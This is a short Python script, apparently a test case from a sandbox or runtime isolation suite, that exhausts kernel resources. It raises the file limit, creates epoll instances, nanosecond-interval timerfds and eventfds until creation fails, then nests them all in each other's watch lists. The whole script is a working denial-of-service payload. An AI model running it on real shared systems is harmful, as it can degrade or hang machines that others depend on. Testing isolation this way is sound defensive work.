# Hoards what waits for events: each descriptor watched by each, nested, with timers. Expected: true.
import resource
import select

from attack import syscall


def main(backend, user_messenger, **kwargs):
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    polls, others, watches = [], [], 0
    try:
        while True:
            polls.append(select.epoll())
            others.append(syscall("timerfd_create", 1, 0))
            syscall("timerfd_settime", others[-1], 0, timer(), 0)
            others.append(syscall("eventfd2", 0, 0))
    except OSError:
        pass
    for number, poll in enumerate(polls):
        for fd in [*filter(lambda fd: fd >= 0, others), *(item.fileno() for item in polls[number + 1 :])]:
            try:
                poll.register(fd, select.EPOLLIN)
                watches += 1
            except OSError:
                pass
    for poll in polls:
        poll.poll(0)
    return len(polls) + len(others) <= hard and 0 < watches < hard * hard


def timer():
    return b"".join(number.to_bytes(8, "little") for number in (0, 1, 0, 1))  # each nanosecond
